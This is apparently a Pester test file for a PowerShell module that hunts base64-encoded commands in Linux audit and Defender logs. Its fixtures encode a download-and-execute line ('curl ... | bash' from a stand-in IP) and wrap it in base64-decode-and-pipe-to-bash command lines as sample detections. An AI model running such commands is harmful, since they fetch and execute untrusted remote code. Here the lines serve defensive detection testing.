# Issue 19 (second half): what exports keep, what help says, what progress and -Verbose tell.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:Work = Join-Path ([System.IO.Path]::GetTempPath()) ("b64prompthelp-" + [guid]::NewGuid())
    New-Item -ItemType Directory -Path $Work | Out-Null
    $script:B64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('curl -s http://203.0.113.7/a.sh | bash'))
}
AfterAll { Remove-Item -Recurse -Force $Work -ErrorAction SilentlyContinue }

Describe 'Exports keep the account and the Defender keys' {
    It 'keeps Account for Import-Csv rows of a Syslog export, as -Path on the same file does' {
        $csv = Join-Path $Work 'syslog.csv'
        [pscustomobject]@{
            TimeGenerated = '2026-10-01T10:00:00Z'; Computer = 'web1'
            SyslogMessage = "type=AUOMS_EXECVE audit(1790848800.000:1): ppid=1 pid=2 audit_user=alice auid=1000 user=mallory uid=1001 cmdline=`"bash -c 'echo $B64 | base64 -d | bash'`""
        } | Export-Csv -Path $csv -NoTypeInformation
        $fromPath = @(Get-B64Command -Path $csv)
        $piped = @(Import-Csv $csv | Get-B64Command)
        $fromPath.Count | Should -BeGreaterThan 0
        $fromPath[0].Account | Should -Be 'mallory'
        $piped.Count | Should -Be $fromPath.Count
        $piped[0].Account | Should -Be $fromPath[0].Account
        $piped[0].Computer | Should -Be 'web1'
        $piped[0].DecodedCommand | Should -Be $fromPath[0].DecodedCommand
    }
    It 'keeps ReportId and DeviceId of Defender rows, from the file and from piped rows' {
        $csv = Join-Path $Work 'dpe.csv'
        [pscustomobject]@{
            Timestamp = '2026-10-01T10:00:00Z'; DeviceId = 'd3v1c3'; DeviceName = 'web1'; AccountName = 'root'; ReportId = '4242'
            ProcessCommandLine = "bash -c 'echo $B64 | base64 -d | bash'"
        } | Export-Csv -Path $csv -NoTypeInformation
        foreach ($e in @(Get-B64Command -Path $csv), @(Import-Csv $csv | Get-B64Command)) {
            $e.Count | Should -Be 1
            $e[0].ReportId | Should -Be '4242'
            $e[0].DeviceId | Should -Be 'd3v1c3'
            $e[0].Account | Should -Be 'root'
        }
        ('id' | Get-B64Command -ErrorAction SilentlyContinue) | Should -BeNullOrEmpty
        ([B64Hunt.Model.CommandEvent]::new()).ReportId | Should -BeNullOrEmpty
    }
}

Describe 'Get-B64Command -Path progress' {
    It 'shows percent and time left, the size being known' {
        $log = Join-Path $Work 'big.log'
        $lines = [System.Collections.Generic.List[string]]::new()
        foreach ($i in 1..60000) {
            $b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("curl -s http://203.0.113.7/$i.sh | bash"))
            $lines.Add("Oct  1 00:00:30 web1 auoms[837]: type=AUOMS_EXECVE audit(1790812830.640:$i): ppid=1 pid=2 user=root uid=0 cmdline=`"bash -c 'echo $b | base64 -d | bash'`"")
        }
        [System.IO.File]::WriteAllLines($log, $lines)
        $ps = [powershell]::Create()
        try {
            $null = $ps.AddScript({ param($m, $p) Import-Module $m; @(Get-B64Command -Path $p).Count }).AddArgument($env:B64HUNT_MODULE).AddArgument($log)
            $result = $ps.Invoke()
            $result[0] | Should -Be 60000
            $bars = @($ps.Streams.Progress | Where-Object Activity -eq 'Get-B64Command' | Where-Object RecordType -ne 'Completed')
            $bars.Count | Should -BeGreaterThan 0
            $bars[0].PercentComplete | Should -BeGreaterThan 0
            $bars[0].PercentComplete | Should -BeLessOrEqual 100
            $bars[0].SecondsRemaining | Should -BeGreaterOrEqual 0
            $bars[0].StatusDescription | Should -Match '^big\.log: .* \(\d+% of [\d,.]+ bytes, about \d\d:\d\d:\d\d left\)$'
        } finally { $ps.Dispose() }
    }
}

Describe 'Get-Help -Online has a target' {
    It 'every cmdlet has a HelpUri at its README section on the project URL' {
        $readme = Get-Content -Raw (Join-Path $PSScriptRoot '../../README.md')
        $anchors = [regex]::Matches($readme, '(?m)^#{2,3} (.+)$') | ForEach-Object {
            ($_.Groups[1].Value.Trim().ToLowerInvariant() -replace '[^\w\- ]', '' -replace ' ', '-')
        }
        foreach ($c in Get-Command -Module B64Hunt -CommandType Cmdlet) {
            $c.HelpUri | Should -Match '^https://github\.com/b64hunt/B64Hunt#' -Because $c.Name
            $c.HelpUri.Split('#')[1] | Should -BeIn $anchors -Because "$($c.Name) points at a README section"
        }
    }
}

Describe 'Get-Help shows value types, not Nullable`1' {
    It 'shows -Start/-End as DateTime and -Last as TimeSpan in syntax and parameters' {
        $help = Get-Help Get-B64Command -Full
        $text = $help | Out-String -Width 250
        $text | Should -Not -Match 'Nullable'
        ($help.parameters.parameter | Where-Object name -eq 'Start').type.name | Should -Be 'System.DateTime'
        ($help.parameters.parameter | Where-Object name -eq 'Last').type.name | Should -Be 'System.TimeSpan'
        ($help.syntax.syntaxItem[0].parameter | Where-Object name -eq 'End').parameterValue | Should -Be 'DateTime'
    }

    It 'shows no Nullable`1 (nor any generic type name) in the full help of any cmdlet' {
        foreach ($c in Get-Command -Module B64Hunt -CommandType Cmdlet) {
            $text = Get-Help $c.Name -Full | Out-String -Width 250
            $text | Should -Not -Match 'Nullable|`1' -Because $c.Name
        }
    }
}

Describe 'Get-Help shows default values' {
    It "shows each parameter's real default: the value, False for a switch, None when unset" {
        $p = (Get-Help Get-B64Command -Full).parameters.parameter
        ($p | Where-Object name -eq 'ServerTimeout').defaultValue | Should -Be '180'
        ($p | Where-Object name -eq 'Environment').defaultValue | Should -Be 'AzureCloud'
        ($p | Where-Object name -eq 'Table').defaultValue | Should -Be 'Auoms'
        ($p | Where-Object name -eq 'MaxDepth').defaultValue | Should -Be '5'
        ($p | Where-Object name -eq 'Summarize').defaultValue | Should -Be 'False'
        ($p | Where-Object name -eq 'Start').defaultValue | Should -Be 'None'
        (Get-Help Get-B64Command -Parameter ServerTimeout | Out-String) | Should -Match 'Default value\s+180'
    }

    It 'gives every parameter of every cmdlet a default value line' {
        foreach ($c in Get-Command -Module B64Hunt -CommandType Cmdlet) {
            foreach ($parameter in (Get-Help $c.Name -Full).parameters.parameter) {
                "$($parameter.defaultValue)" | Should -Not -BeNullOrEmpty -Because "$($c.Name) -$($parameter.name)"
            }
        }
    }
}

Describe 'A hidden parameter is hidden in the help too' {
    It 'leaves -Hostnames (DontShow) out of the syntax of Get-B64RelatedAlert, and its description says why' {
        (Get-Command Get-B64RelatedAlert).Parameters['Hostnames'].Attributes.DontShow | Should -Contain $true
        $help = Get-Help Get-B64RelatedAlert -Full
        $help.syntax.syntaxItem.parameter.name | Should -Not -Contain 'Hostnames'
        $help.syntax.syntaxItem.parameter.name | Should -Contain 'Computer'
        ($help | Out-String -Width 250) | Should -Not -Match '\[-Hostnames'
        "$((Get-Help Get-B64RelatedAlert -Parameter Hostnames).description.Text)" | Should -BeLike 'Hidden: not offered by tab completion nor shown in the syntax*'
    }
}
